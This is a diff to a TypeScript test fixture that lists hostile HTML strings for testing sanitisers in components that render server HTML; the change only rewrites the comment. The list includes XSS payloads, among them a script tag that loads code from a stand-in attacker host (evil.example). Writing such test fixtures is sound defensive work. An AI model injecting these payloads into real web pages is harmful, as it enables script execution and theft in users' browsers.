@@ -1,4 +1,6 @@
-/** Classic attacks on sanitisers, for the tests of whoever shows server HTML. Each must execute and load nothing. */
+/**
+ * Classic attacks on sanitisers, for the tests of components that show server HTML. None may execute or load anything.
+ */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
